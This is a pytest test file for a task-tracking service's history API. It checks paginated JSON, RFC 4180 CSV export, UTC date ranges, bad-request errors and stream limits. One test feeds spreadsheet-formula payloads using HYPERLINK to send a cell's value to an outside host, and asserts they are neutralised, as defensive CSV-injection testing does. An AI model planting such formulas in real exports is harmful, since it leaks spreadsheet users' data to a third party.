"""A project's history over HTTP: pages, CSV, ranges of days, and bad requests."""

import asyncio
import contextlib
import csv
import io
import re
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
import redis
from tests.harness.processes import until
from tests.harness.services import running
from tests.http.conftest import Caller
from tests.http.test_tasks import errors_of

from dibs.acts.history import COLUMNS
from dibs.stream_limit import StreamLimit

PR = "https://github.com/acme/web/pull/7"
TODAY = f"{datetime.now(UTC):%Y-%m-%d}"


def finish(caller: Caller, task: str, outcome: str = "released", **facts: Any) -> None:
    """Claim a task and end the tenure."""
    assert caller.post("claim", task=task, **facts).status_code == 201
    fields = {"note": facts["note"]} if "note" in facts else {}
    assert caller.post("release", task=task, outcome=outcome, **fields).status_code == 200


def rows_of(answer: httpx.Response) -> list[dict[str, str]]:
    """Return the rows of a CSV, parsed strictly by RFC 4180."""
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; header=present; charset=utf-8"
    text = answer.content.decode()
    assert "\r\n" in text
    assert not re.search("(?<!\r)\n", re.sub('"[^"]*"', "", text))
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_the_history_of_a_project_is_a_page_of_tenures_with_their_tasks(
    ann: Caller, bob: Caller
) -> None:
    finish(ann, "T-1", "abandoned", label="ann", branch="fix", note="half", pr=PR)
    finish(bob, "T-1", "done", label="bob")
    page = ann.get("history").json()
    assert page.keys() == {"tenures", "cursor", "server_time"}
    first, second = page["tenures"]
    assert (first["task"], first["outcome"], first["note"]) == ("T-1", "abandoned", "half")
    assert (first["pr"], first["holder"]["branch"], first["attempt"]) == (PR, "fix", 1)
    assert (second["holder"]["label"], second["attempt"]) == ("bob", 2)
    assert second == {"task": "T-1", **ann.get("tasks/T-1").json()["tenures"][0]}
    one = ann.get("history", limit=1).json()
    rest = ann.get("history", limit=1, cursor=one["cursor"]).json()
    assert [*one["tenures"], *rest["tenures"]] == [first, second]


def test_a_csv_has_a_header_and_a_row_for_each_tenure_in_columns_that_stay(ann: Caller) -> None:
    finish(ann, "T-1", label="ann", branch="fix", url="https://e.org/1", pr=PR)
    answer = ann.get("history.csv", since=TODAY)
    assert answer.text.splitlines()[0] == (
        "task,outcome,by,ref,label,branch,pr,acquired_at,ended_at,held_seconds,parked_seconds,"
        "attempt,fence,reason,note,url"
    )
    assert "attachment" in answer.headers["content-disposition"]
    [row] = rows_of(answer)
    [tenure] = ann.get("history").json()["tenures"]
    assert (row["task"], row["label"], row["branch"], row["pr"]) == ("T-1", "ann", "fix", PR)
    assert (row["ref"], row["fence"]) == (tenure["holder"]["ref"], str(tenure["fence"]))
    assert (row["acquired_at"], row["ended_at"]) == (tenure["acquired_at"], tenure["ended_at"])
    assert (row["note"], row["by"], row["attempt"], row["parked_seconds"]) == ("", "", "1", "0")


@pytest.mark.parametrize(
    "text",
    [
        'a "quoted" word, and a comma',
        "two\nlines",
        "naïve ☃ 漢字 🙂",
        "semi;colon",
        "x" * 1000,
        '"',
    ],
)
def test_every_text_comes_out_of_a_csv_as_it_was_written(ann: Caller, text: str) -> None:
    finish(ann, "T-1", note=text)
    [row] = rows_of(ann.get("history.csv"))
    assert row["note"] == text


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_nothing_in_a_csv_is_a_formula_of_a_spreadsheet(ann: Caller, start: str) -> None:
    formula = start + '1+HYPERLINK("http://e.org/?x="&A1)'
    finish(ann, formula, branch=formula, note=formula)
    [row] = rows_of(ann.get("history.csv"))
    assert [row[name] for name in ("task", "branch", "note")] == ["'" + formula] * 3
    assert [tenure["note"] for tenure in ann.get("history").json()["tenures"]] == [formula]


def test_a_history_has_no_session(ann: Caller, bob: Caller) -> None:
    finish(ann, "T-1", label="ann")
    finish(bob, "T-1")
    for path in ("history", "history.csv"):
        text = ann.get(path).text
        assert ann.session not in text
        assert bob.session not in text
        hashes = [found for found in re.findall("[0-9a-f]{11,}", text) if not found.isdigit()]
        assert hashes == [], "a ref has ten characters of a hash"


def test_an_export_of_many_pages_is_whole_and_has_each_once(ann: Caller) -> None:
    names = [f"T-{number}" for number in range(450)]
    for first in range(0, 450, 30):
        some = names[first : first + 30]
        assert ann.post("claim", all_of=some).status_code == 201
        assert ann.post("release", all=True).status_code == 200
    assert sorted(row["task"] for row in rows_of(ann.get("history.csv"))) == sorted(names)


def test_a_span_is_of_whole_days_of_utc_both_included(ann: Caller) -> None:
    finish(ann, "T-1")
    now = datetime.now(UTC)
    day, before, after = (f"{now + timedelta(days=n):%Y-%m-%d}" for n in (0, -1, 1))
    spans = [({}, 1), ({"since": before, "until": after}, 1), ({"since": after}, 0)]
    spans += [({"until": before}, 0), ({"since": before, "until": before}, 0)]
    this_day: list[dict[str, str]] = [{"since": day}, {"since": day, "until": day}]
    spans += [(span, 1) for span in this_day] if f"{datetime.now(UTC):%Y-%m-%d}" == day else []
    for span, many in spans:
        assert len(rows_of(ann.get("history.csv", **span))) == many, span
        assert len(ann.get("history", **span).json()["tenures"]) == many, span


@pytest.mark.parametrize("path", ["history", "history.csv"])
@pytest.mark.parametrize(
    ("span", "field", "said"),
    [
        ({"since": "yesterday"}, "since", "2026-11-30"),
        ({"since": "2026-02-30"}, "since", "must be a date in UTC"),
        ({"until": "20261130"}, "until", "2026-11-30"),
        ({"since": "2026-11-30T00:00:00Z"}, "since", "in UTC"),
        ({"since": "2026-11-30", "until": "2026-11-29"}, "since", "later than until"),
        ({"from": "2026-11-30"}, "from", ""),
    ],
)
def test_a_span_that_is_none_is_refused_with_what_a_day_is(
    ann: Caller, path: str, span: dict[str, str], field: str, said: str
) -> None:
    errors = errors_of(ann.get(path, **span))
    assert list(errors) == [field]
    assert said in errors[field]


def test_the_edges_of_the_calendar_are_days(ann: Caller) -> None:
    finish(ann, "T-1")
    for span in ({"since": "0001-01-01"}, {"until": "9999-12-31"}):
        assert len(rows_of(ann.get("history.csv", **span))) == 1


@pytest.mark.parametrize("cursor", ["x", "MSAxIA", "OSA5IHg", "!"])
def test_a_cursor_that_no_page_gave_is_refused(ann: Caller, cursor: str) -> None:
    assert "cursor" in errors_of(ann.get("history", cursor=cursor))


def test_a_project_without_a_history_gives_a_header(ann: Caller) -> None:
    assert ann.get("history.csv").text == ",".join(COLUMNS) + "\r\n"
    assert ann.get("history").json()["tenures"] == []


@pytest.mark.long
def test_an_export_that_the_store_leaves_in_the_midst_has_no_end(tmp_path: Path) -> None:
    """No client can take it for a complete export."""
    with running(tmp_path / "service", env={"DIBS_RATE_PER_SESSION": "0"}) as service:
        caller = Caller(service.url, "cut.short")
        for first in range(0, 4_000, 30):
            some = [f"T-{first + number}" for number in range(30)]
            assert caller.post("claim", all_of=some, note="\U0001f642" * 900).status_code == 201
            assert caller.post("release", all=True).status_code == 200
        path = str(tmp_path / "service" / "data" / "valkey.sock")
        with (
            contextlib.closing(caller.http),
            redis.Redis(unix_socket_path=path) as store,
            caller.http.stream("GET", "/v1/cut.short/history.csv") as answer,
        ):
            assert answer.status_code == 200
            chunks = answer.iter_raw()
            next(chunks)
            store.set("dibs:format", "99")  # as a newer dibs would set it
            until(lambda: httpx.get(f"{service.url}/readyz").status_code == 503, "dibs notices it")
            with pytest.raises(httpx.RemoteProtocolError):
                for _ in chunks:
                    pass


def test_exports_take_turns_and_count_as_streams(tmp_path: Path) -> None:
    with running(tmp_path / "service", env={"DIBS_MAX_CONNECTIONS": "12"}) as service:
        caller = Caller(service.url, "many.streams")
        events, followed = {"Accept": "text/event-stream"}, []
        with contextlib.closing(caller.http), contextlib.ExitStack() as open_ones:
            for _ in range(3):  # a quarter of the connections
                stream = caller.http.stream("GET", "/v1/many.streams/events", headers=events)
                lines = open_ones.enter_context(stream).iter_lines()
                assert next(lines)
                followed.append(lines)  # an unreferenced stream is closed
            answer = caller.get("history.csv")
            assert (answer.status_code, answer.json()["code"]) == (429, "quota")
            open_ones.close()
            until(lambda: caller.get("history.csv").status_code == 200, "the streams are closed")


async def test_all_exports_of_a_process_take_half_of_its_time_at_most() -> None:
    streams, order = StreamLimit(100), list[str]()

    async def export(name: str) -> None:
        for _ in range(3):
            async with streams.exporting():
                order.append(f"{name} begins")
                await asyncio.sleep(0.02)
                order.append(f"{name} ends")

    began = time.monotonic()
    await asyncio.gather(export("one"), export("other"))
    assert time.monotonic() - began >= 6 * 2 * 0.02 - 0.02
    pairs = zip(order[::2], order[1::2], strict=True)
    assert all(begin.split()[0] == end.split()[0] for begin, end in pairs)
